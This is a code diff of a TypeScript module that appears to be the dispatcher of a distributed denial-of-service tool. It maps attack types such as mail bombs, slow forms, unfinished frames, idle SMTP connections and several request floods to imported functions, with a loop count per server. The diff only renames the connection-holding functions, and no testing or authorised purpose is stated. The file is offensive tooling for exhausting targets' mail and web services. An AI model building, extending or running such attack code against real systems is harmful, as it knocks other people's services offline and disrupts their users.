@@ -1,6 +1,6 @@
 import { setTimeout as sleep } from 'node:timers/promises'
 import { floodFunctions, floodInvitations, floodPictures, floodTemplates } from './attack-calls.ts'
-import { holdForms, holdFrames, holdSmtpConnections, joinMadeUpTopics } from './attack-connections.ts'
+import { joinMadeUpTopics, openIdleSmtpConnections, openSlowForms, openUnfinishedFrames } from './attack-connections.ts'
 import { sendBombs } from './attack-mails.ts'
 
 interface Target {
@@ -32,10 +32,10 @@ export interface Attack extends Omit<AttackOrder, 'targets' | 'seconds'>, Target
 /** Each attack runs in this many loops on each server. */
 const ATTACKS: Record<string, { width: number; run: (attack: Attack) => Promise<unknown> }> = {
   'mail bombs': { width: 2, run: sendBombs },
-  'slow forms': { width: 40, run: holdForms },
-  'unfinished frames': { width: 30, run: holdFrames },
+  'slow forms': { width: 40, run: openSlowForms },
+  'unfinished frames': { width: 30, run: openUnfinishedFrames },
   'made-up topics': { width: 10, run: joinMadeUpTopics },
-  'idle SMTP connections': { width: 60, run: holdSmtpConnections },
+  'idle SMTP connections': { width: 60, run: openIdleSmtpConnections },
   'template previews': { width: 8, run: floodTemplates },
   invitations: { width: 4, run: floodInvitations },
   functions: { width: 10, run: floodFunctions },
